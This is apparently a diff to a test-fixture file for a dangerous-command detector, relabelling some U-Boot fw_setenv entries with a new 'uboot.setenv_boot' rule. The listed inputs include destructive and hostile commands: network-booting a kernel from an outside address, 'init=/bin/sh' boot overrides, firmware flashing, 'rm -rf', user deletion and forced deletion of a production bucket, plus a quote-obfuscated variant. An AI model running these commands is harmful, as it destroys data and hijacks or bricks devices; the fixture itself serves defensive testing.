@@ -55,8 +55,11 @@ RAISED = [
     ("ubiformat /dev/mtd5 -y", NAME_RULE),
     ("st-flash write /srv/fw/app.bin 0x8000000", NAME_RULE),
     ("zzflash -w /srv/fw.bin", NAME_RULE),
-    ("fw_setenv bootcmd 'dhcp; tftpboot 0x82000000 198.51.100.9:zImage; bootz'", NAME_RULE),
-    ("fw_set\"env\" bootargs 'init=/bin/sh'", NAME_RULE),
+    (
+        "fw_setenv bootcmd 'dhcp; tftpboot 0x82000000 198.51.100.9:zImage; bootz'",
+        "uboot.setenv_boot",
+    ),  # described since audit18b
+    ("fw_set\"env\" bootargs 'init=/bin/sh'", "uboot.setenv_boot"),  # described since audit18b
     ("nvram set boot_wait=on", NAME_RULE),
     ("efivar -w -n x -f /srv/v", NAME_RULE),
     # class 3: a device or the root
@@ -170,7 +173,10 @@ CODE_LINES = [
     ('janet -e \'(os/execute ["userdel" "-r" "ops"] :p)\'', None),
     ("zzlang --eval 'exec(\"rm -rf /srv/data\")'", None),
     ("ipython -c \"import os; os.system('mc rb --force minio-prod/ml-artifacts')\"", None),
-    ("racket -l racket/base -l racket/system -e '(system \"fw_setenv bootcmd\")'", NAME_RULE),
+    (
+        "racket -l racket/base -l racket/system -e '(system \"fw_setenv bootcmd\")'",
+        "uboot.setenv_boot",
+    ),  # described since audit18b
 ]
 
 
